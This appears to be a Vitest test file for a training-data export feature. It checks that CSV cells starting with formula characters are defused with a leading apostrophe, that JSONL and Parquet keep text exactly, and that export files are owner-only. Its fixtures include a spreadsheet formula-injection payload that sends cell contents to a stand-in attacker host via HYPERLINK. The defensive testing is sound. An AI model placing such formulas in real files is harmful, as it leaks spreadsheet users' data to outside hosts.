import { mkdtempSync, readFileSync, rmSync, statSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { asyncBufferFromFile, parquetReadObjects } from "hyparquet";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { exportRequestSchema, type ExportFileTypeName } from "@/lib/schemas/exports";
import { createExport, createExportRun, getExportRun } from "@/lib/server/exports/definitions";
import { runExport } from "@/lib/server/exports/run";
import { pgPool } from "@/lib/server/pg";
import { buildExportFixture, type ExportFixture } from "./fixture";

// Issue 12, finding 10 (exports): a CSV export is opened in spreadsheets, so a text cell that a
// spreadsheet would run as a formula gets a leading ' (OWASP); JSONL and Parquet keep the text
// exactly. And export files are the studio user's only: directories 0700, files 0600.

const HOSTILE = {
  prompt: '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")',
  initial: "+1 555 0100, call now",
  critique: "@SUM(A1:A9)",
  revision: "-2 is less than 1",
  tabbed: "\t=1+1",
};

let f: ExportFixture;
let root: string;
let datasetId: number;

beforeAll(async () => {
  f = await buildExportFixture();
  root = mkdtempSync(path.join(tmpdir(), "cai-exports-safety-"));
  const db = pgPool();
  datasetId = (await db.query<{ id: number }>(`INSERT INTO "Dataset" (name) VALUES ($1) RETURNING id`, [`exports-formulas-${f.tag}`])).rows[0]!.id;
  const turns = [{ role: "user", content: HOSTILE.prompt }];
  const promptId = (
    await db.query<{ id: number }>(`INSERT INTO "Prompt" ("datasetId", turns, text, "contentHash") VALUES ($1, $2, $3, md5($3)) RETURNING id`, [
      datasetId,
      JSON.stringify(turns),
      HOSTILE.prompt,
    ])
  ).rows[0]!.id;
  const response = async (text: string, origin: string) =>
    (await db.query<{ id: number }>(`INSERT INTO "Response" ("promptId", text, origin) VALUES ($1, $2, $3) RETURNING id`, [promptId, text, origin])).rows[0]!.id;
  const chainId = (
    await db.query<{ id: number }>(`INSERT INTO "Chain" ("promptId", "initialResponseId") VALUES ($1, $2) RETURNING id`, [promptId, await response(HOSTILE.initial, "INITIAL")])
  ).rows[0]!.id;
  const principleId = (await db.query<{ id: number }>(`SELECT id FROM "Principle" WHERE "versionId" = $1 AND kind = 'CRITIQUE_REVISION' LIMIT 1`, [f.versions.v1])).rows[0]!.id;
  await db.query(`INSERT INTO "ChainStep" ("chainId", index, "principleId", critique, "revisionId") VALUES ($1, 1, $2, $3, $4)`, [
    chainId,
    principleId,
    HOSTILE.critique,
    await response(HOSTILE.revision, "REVISION"),
  ]);
  await db.query(`INSERT INTO "ChainStep" ("chainId", index, "principleId", critique, "revisionId") VALUES ($1, 2, $2, $3, $4)`, [
    chainId,
    principleId,
    "fine",
    await response(HOSTILE.tabbed, "REVISION"),
  ]);
});
afterAll(async () => {
  rmSync(root, { recursive: true, force: true });
  await pgPool().end();
});

let exports = 0;
async function exported(fileType: ExportFileTypeName, revision: number) {
  const request = exportRequestSchema.parse({
    name: `formulas ${fileType} ${revision} ${f.tag} ${++exports}`,
    layout: "H4_CAI",
    fileType,
    definition: { datasetIds: [datasetId], testFraction: 0, revision },
  });
  const saved = await createExport(pgPool(), request);
  const queued = await createExportRun(pgPool(), saved.id);
  await runExport(pgPool(), queued.id, { worker: "test", root });
  const run = (await getExportRun(pgPool(), queued.id))!;
  expect(run, `export run ${queued.id}: ${run.error}`).toMatchObject({ status: "SUCCEEDED" });
  return path.join(root, run.directory!);
}

describe("CSV formula injection", () => {
  it("CSV: every text cell starting with =, +, -, @ or a tab gets a leading ', quoted as CSV needs", async () => {
    const csv = readFileSync(path.join(await exported("CSV", 1), "train_sft.csv"), "utf8");
    const [header, row] = csv.split("\r\n");
    expect(header).toBe("init_prompt,init_response,critic_prompt,critic_response,revision_prompt,revision_response,prompt,messages,chosen,rejected");
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click me"")"`);
    expect(row).toContain(`,"'+1 555 0100, call now",`);
    expect(row).toContain(",'@SUM(A1:A9),");
    expect(row).toContain(",'-2 is less than 1,");
    // no cell of the row starts with a formula character
    for (const cell of row!.match(/(?<=^|,)("(?:[^"]|"")*"|[^,]*)/g)!) expect(cell.replace(/^"/, "")).not.toMatch(/^[=+\-@\t\r]/);
    // JSON text (messages) starts with [ and needs nothing
    expect(row).toMatch(/,"\[\{""role"": ""user"", ""content"": ""=HYPERLINK/);
    const tabbed = readFileSync(path.join(await exported("CSV", 2), "train_sft.csv"), "utf8");
    expect(tabbed).toContain(",'\t=1+1,");
  });

  it("JSONL and Parquet keep the text exactly as it is", async () => {
    const jsonl = JSON.parse(readFileSync(path.join(await exported("JSONL", 1), "train_sft.jsonl"), "utf8"));
    expect(jsonl).toMatchObject({ init_prompt: HOSTILE.prompt, init_response: HOSTILE.initial, critic_response: HOSTILE.critique, revision_response: HOSTILE.revision });
    const file = await asyncBufferFromFile(path.join(await exported("PARQUET", 1), "train_sft.parquet"));
    const [row] = await parquetReadObjects({ file });
    expect(row).toMatchObject({ init_prompt: HOSTILE.prompt, init_response: HOSTILE.initial, critic_response: HOSTILE.critique, revision_response: HOSTILE.revision });
  });
});

describe("export files are the owner's only", () => {
  it("directories 0700 (the exports root too), files 0600, for every file type", async () => {
    for (const fileType of ["CSV", "JSONL", "PARQUET"] as const) {
      const dir = await exported(fileType, 1);
      expect((statSync(root).mode & 0o777).toString(8)).toBe("700");
      expect((statSync(dir).mode & 0o777).toString(8)).toBe("700");
      for (const name of [`train_sft.${fileType.toLowerCase()}`, "manifest.json"]) {
        expect((statSync(path.join(dir, name)).mode & 0o777).toString(8), `${fileType} ${name}`).toBe("600");
      }
    }
  });
});
